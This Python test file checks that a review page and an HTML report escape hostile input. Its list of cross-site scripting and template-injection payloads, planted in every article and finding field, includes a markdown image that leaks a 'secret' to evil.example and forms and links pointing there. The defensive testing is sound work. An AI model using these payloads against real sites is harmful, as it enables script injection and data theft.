"""Nothing that an article, a model or a reviewer wrote runs or loads anything."""

import json
from pathlib import Path

import pytest

from extractor.reading.canonical import canonical_text
from extractor.report.page import html_report
from extractor.review.desk import Ask, Desk
from extractor.store import Store
from schemas.article import Article, Source
from schemas.decision import Ruling
from schemas.finding import Finding, Side
from schemas.record import text_sha256
from schemas.verdict import ConflictKind, Relation
from tests.browser.served import served
from tests.browser.stories import manifest, said_in

CORPUS = Path(__file__).parents[3] / "shared" / "bench" / "injection" / "payloads.jsonl"
OURS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea></title></script><svg onload=alert(1)>",
    '"><iframe src=javascript:alert(1)></iframe>',
    "javascript:alert(1)",
    "![x](https://evil.example/?q=secret)",
    "{{ 7*7 }}${7*7}<%= 7*7 %>{% raw %}",
    "' onmouseover='alert(1)' style='background:url(//evil.example/x)'",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/a.css>",
    "<form action=https://evil.example><button autofocus>",
    "<style>@import 'https://evil.example/a.css'</style>",
    "\u2028<!--\u2029--!><script>/*",
]
PER_FINDING = 60


def payloads() -> list[str]:
    """Our own, and those of the corpus where it is there."""
    if not CORPUS.is_file():
        return OURS
    rows = map(json.loads, CORPUS.read_text("utf-8").splitlines())
    return OURS + [row["text"] for row in rows if row["kind"] in ("output-payload", "string")]


def hostile(number: int, words: str):
    """A testimony with the payload in every field that a text, a page or a model can fill."""
    words = canonical_text(words).strip() or "-"
    text = f"{words}\n\nBefore. {words} After."
    article = Article(
        sha256=text_sha256(text), name=words, text=text, title=words, source=Source(name=words, basis="text"), url=words
    )
    more = {"url": words, "holder": words, "statement": words, "as_of": words}
    return article, said_in(article, words, words, claim=f"clm_{number}", **more)


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    opened = Store(tmp_path_factory.mktemp("inert") / "store.db")
    every = [hostile(number, words) for number, words in enumerate(payloads())]
    opened.put_articles({article.sha256: article for article, _ in every}.values())
    findings = []
    for at in range(0, len(every), PER_FINDING):
        said = [one for _, one in every[at : at + PER_FINDING]]
        sides = (Side(value=said[0].quote, testimonies=said[::2]), Side(value="0", testimonies=said[1::2] or said))
        words = said[0].quote
        findings.append(
            Finding(
                key=f"fnd_{at}",
                title=words,
                relation=Relation.CONTRADICTION,
                kind=ConflictKind.QUANTITY,
                pairs=(f"fnd_{at}",),
                sides=sides,
                why=words,
                model=words,
                prompt=words,
            )
        )
    opened.put_run(manifest([(payloads()[0], "0" * 64)], findings, claims=0), findings)
    yield opened
    opened.close()


STATE = """({
    scripts: document.scripts.length,
    made: document.querySelectorAll('iframe, object, embed, svg, base, form[action^=http], style, img, video').length,
    handlers: [...document.querySelectorAll('*')].some(one => [...one.attributes].some(a => a.name.startsWith('on'))),
    links: [...document.querySelectorAll('[href]')].every(one => /^https?:|^[^:]*$/.test(one.getAttribute('href'))),
    quotes: [...document.querySelectorAll('main mark.quote')].map(one => one.textContent),
})"""


def test_every_payload_is_text_in_the_review_page(watch, store):
    desk = Desk(store, "anna<script>alert(1)</script>")
    with served(desk) as site:
        page = watch(site.base)
        page.goto(site.entrance)
        keys = [row.finding.key for row in desk.catalogue.rows]
        desk.rule(Ask(keys[0], Ruling.NOTED, note=OURS[2]))
        for path in ["", "agreement", *(f"finding/{key}" for key in keys), f"finding/{keys[0]}?whole=1"]:
            page.goto(site.base + path)
            state = page.evaluate(STATE)
            assert (state["scripts"], state["made"], state["handlers"], state["links"]) == (1, 0, False, True), path
            if path.startswith("finding/") and "?" not in path:
                finding = desk.catalogue.by_key[path.removeprefix("finding/")].finding
                assert state["quotes"] == [said.quote for side in finding.sides for said in side.testimonies]
            assert page.title().endswith("crossclaim")
        page.goto(site.base + f"?q={'%3Cscript%3Ealert(1)%3C/script%3E'}")
        assert page.input_value("#search") == "<script>alert(1)</script>"


def test_every_payload_is_text_in_the_report(watch, store, tmp_path):
    report = tmp_path / "report.html"
    report.write_text(html_report(store.findings(1), store.run(1)), "utf-8")
    page = watch(report.as_uri())
    page.goto(report.as_uri())
    page.wait_for_timeout(200)
    state = page.evaluate(STATE)
    assert (state["scripts"], state["handlers"], state["links"]) == (0, False, True)
    assert state["made"] == 1, "its own style"
    assert page.title() == "Where the sources disagree"
